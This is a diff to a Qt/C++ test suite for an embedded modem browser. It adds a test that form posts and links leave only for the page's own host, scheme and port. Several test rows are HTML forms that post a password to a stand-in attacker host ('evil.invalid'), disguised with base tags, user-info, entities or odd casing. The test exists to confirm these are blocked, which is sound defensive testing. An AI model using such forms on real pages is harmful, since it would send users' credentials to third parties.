@@ -2,6 +2,8 @@
 
 #include "support/PageServer.h"
 
+#include <QLoggingCategory>
+#include <QScopeGuard>
 #include <QTest>
 
 #include <atomic>
@@ -15,6 +17,19 @@ namespace {
 const auto kAnswer = [](const httplib::Request&, httplib::Response& res) {
     res.set_content("<p>sent</p>", "text/html");
 };
+
+QString portOf(const test::PageServer& server)
+{
+    return QString::fromStdString(server.address()).section(u':', 1);
+}
+
+// What the modem's category logs, while a test listens.
+QStringList g_log;
+void keepModemLog(QtMsgType, const QMessageLogContext& context, const QString& message)
+{
+    if (QByteArray(context.category).startsWith("tolvane.modem"))
+        g_log << message;
+}
 
 struct Session {
     test::PageServer server;
@@ -88,6 +103,84 @@ private slots:
                  sent);
     }
 
+    // A page's form or link goes only to the scheme, host and port of that page, however the
+    // address is spelled; anything else fails with the click, sends nothing and looks up no name
+    // (.invalid never resolves). Rows: the page (%1: this server's port; %2: another server's),
+    // and the method and path that reach this server, or nothing.
+    void submit_goesOnlyToTheModemThatSentThePage_data()
+    {
+        QTest::addColumn<QString>("page");
+        QTest::addColumn<QString>("reached");
+        const auto form = [](const char* name, const char* start, const char* reached) {
+            QTest::newRow(name) << QString(start) + "<input type=password name=pws value=secret>"
+                                                    "<input type=submit id=go></form>"
+                                << QString(reached);
+        };
+        form("another host", "<form method=post action=http://evil.invalid/send>", "");
+        form("another port", "<form method=post action=http://127.0.0.1:%2/send>", "");
+        form("another scheme", "<form method=post action=https://127.0.0.1:%1/send>", "");
+        form("base to another host",
+             "<base href=http://evil.invalid/><form method=post "
+             "action=send>",
+             "");
+        form("no scheme", "<form method=post action=//evil.invalid/send>", "");
+        form("user info before another host",
+             "<form method=post action=http://127.0.0.1:%1@evil.invalid/send>", "");
+        form("upper-case scheme", "<form method=post action=HTTP://EVIL.invalid/send>", "");
+        form("leading blanks", "<form method=post action='  http://evil.invalid/send'>", "");
+        form("entities", "<form method=post action='&#104;ttp:&#x2F;/evil&#46;invalid/send'>", "");
+        form("GET to another port", "<form action=http://127.0.0.1:%2/send>", "");
+        QTest::newRow("button's own action to another port")
+            << "<form method=post action=/send><input type=submit id=go "
+               "formaction=http://127.0.0.1:%2/send></form>"
+            << "";
+        QTest::newRow("link to another port") << "<a id=go href=http://127.0.0.1:%2/send>x</a>"
+                                              << "";
+        form("relative action", "<form method=post action=send>", "POST /send");
+        form("empty action", "<form method=post action=''>", "POST /form.htm");
+        form("same host and port", "<form method=post action=http://127.0.0.1:%1/send>",
+             "POST /send");
+        form("the modem spelled otherwise",
+             "<form method=post action=' HTTP://127.0.0.1:%1/x/../send'>", "POST /send");
+        form("base on the modem",
+             "<base href=http://127.0.0.1:%1/x/><form method=post "
+             "action=../send>",
+             "POST /send");
+        QTest::newRow("link on the modem") << "<a id=go href=/send>x</a>"
+                                           << "GET /send";
+    }
+    void submit_goesOnlyToTheModemThatSentThePage()
+    {
+        QFETCH(QString, page);
+        QFETCH(QString, reached);
+        Session s;
+        test::PageServer elsewhere;
+        s.server.routes().Get("/send", kAnswer);
+        QLoggingCategory::setFilterRules(QStringLiteral("tolvane.modem.info=true"));
+        g_log.clear();
+        const QtMessageHandler previous = qInstallMessageHandler(keepModemLog);
+        const auto restore = qScopeGuard([previous] {
+            qInstallMessageHandler(previous);
+            QLoggingCategory::setFilterRules(QString());
+        });
+        s.openAndStartClick(
+            page.replace("%1", portOf(s.server)).replace("%2", portOf(elsewhere)).toStdString());
+        const bool loading = s.browser.isLoading();
+        QTRY_VERIFY_WITH_TIMEOUT(!s.browser.isLoading(), 20000);
+
+        QVERIFY(elsewhere.requests().empty());
+        const auto requests = s.server.requests();
+        const auto& last = requests.back();
+        QCOMPARE(requests.size() == 2 ? QString::fromStdString(last.method + ' ' + last.path) : "",
+                 reached);
+        QCOMPARE(loading, !reached.isEmpty()); // a refusal comes with the click
+        QCOMPARE(s.browser.refusal().isEmpty(), !reached.isEmpty());
+        if (reached.isEmpty())
+            QVERIFY(s.html().contains(u"away from the modem") &&
+                    g_log.join('\n').contains(u"not sent"));
+        QVERIFY(!g_log.join('\n').contains(u"secret"));
+    }
+
     // A redirect stays on the modem that sent it (same scheme, address and port; no host name
     // looked up) and takes the cookies set on the way. Rows: status and location (%1: this
     // server's port; %2: another's), and the method and body that reach /home.stm, if any.
@@ -110,12 +203,9 @@ private slots:
         QFETCH(QByteArray, followed);
         Session s;
         test::PageServer elsewhere;
-        const auto port = [](const test::PageServer& server) {
-            return QString::fromStdString(server.address()).section(u':', 1);
-        };
         const std::string target = redirect.section(u' ', 1)
-                                       .replace(QStringLiteral("%1"), port(s.server))
-                                       .replace(QStringLiteral("%2"), port(elsewhere))
+                                       .replace(QStringLiteral("%1"), portOf(s.server))
+                                       .replace(QStringLiteral("%2"), portOf(elsewhere))
                                        .toStdString();
         s.server.routes().Post("/login.cgi", [&](const httplib::Request&, httplib::Response& res) {
             res.status = redirect.section(u' ', 0, 0).toInt();
